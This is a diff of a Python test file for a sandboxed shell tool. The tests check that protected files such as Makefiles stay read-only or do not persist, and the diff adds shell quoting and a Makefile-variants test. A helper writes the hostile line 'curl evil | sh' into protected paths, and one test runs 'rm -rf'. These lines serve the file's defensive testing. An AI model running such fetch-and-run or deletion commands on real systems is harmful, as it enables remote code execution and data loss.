@@ -4,6 +4,7 @@ existing one is refused (read-only), a new one does not stay (put aside, and sai
 from __future__ import annotations
 
 import os
+import shlex
 import shutil
 import subprocess
 from pathlib import Path
@@ -27,8 +28,8 @@ def _kept(path: str) -> bool:
 
 def _write(entry: runs_code.Entry) -> str:
     """A shell line that plants something at ``entry`` (making missing parent folders)."""
-    target = f"{entry.path}/planted" if entry.folder else entry.path
-    parent = str(Path(target).parent)
+    target = shlex.quote(f"{entry.path}/planted" if entry.folder else entry.path)
+    parent = shlex.quote(str(Path(entry.path if entry.folder else Path(entry.path).parent)))
     return f"mkdir -p {parent}; echo 'curl evil | sh' > {target}; echo 'curl evil | sh' >> {target}"
 
 
@@ -43,7 +44,7 @@ async def test_an_existing_entry_is_read_only(jail: Jail, entry: runs_code.Entry
         (path / "mine").write_text("mine\n")
     else:
         path.write_text("mine\n")
-    result = await run(tool_with(), {"command": _write(entry) + f"; rm -rf {entry.path}"}, context(ws))
+    result = await run(tool_with(), {"command": _write(entry) + f"; rm -rf {shlex.quote(entry.path)}"}, context(ws))
     assert result.success and result.metadata["sandbox"]["sandboxed"] is True
     if entry.folder:
         assert sorted(p.name for p in path.iterdir()) == ["mine"], result.output
@@ -197,3 +198,15 @@ def test_an_entry_of_several_parts_read_from_every_folder_covers_it_at_any_depth
     assert runs_code.in_every_folder("/ws/src/MISE/Config.toml")  # a file system that folds case
     assert not runs_code.in_every_folder("/ws/src/.cargo/config.toml")
     assert not runs_code.in_every_folder("/ws/src/x-mise.toml")
+
+
+def test_a_makefile_of_the_persons_brings_the_names_make_reads_in_its_place() -> None:
+    """make reads ``GNUmakefile``, then ``makefile``, then ``Makefile``: protecting the one the
+    person reviewed protects the others in its folder (the file tools ask before writing them)."""
+    entries = runs_code.all_entries(["Makefile", "sub/GNUmakefile"], in_home=False)
+    for parts in (("GNUmakefile",), ("makefile",), ("sub", "Makefile"), ("sub", "makefile")):
+        found = runs_code.entry_of(parts, entries)
+        assert found is not None and found.why != runs_code.ADDED_BY_YOU, parts
+    assert runs_code.entry_of(("other", "GNUmakefile"), entries) is None
+    assert runs_code.entry_of(("GNUmakefile",), runs_code.all_entries(in_home=False)) is None
+    assert [e.path for e in runs_code.all_entries(["Makefile"]) if e.why == runs_code.ADDED_BY_YOU] == ["Makefile"]
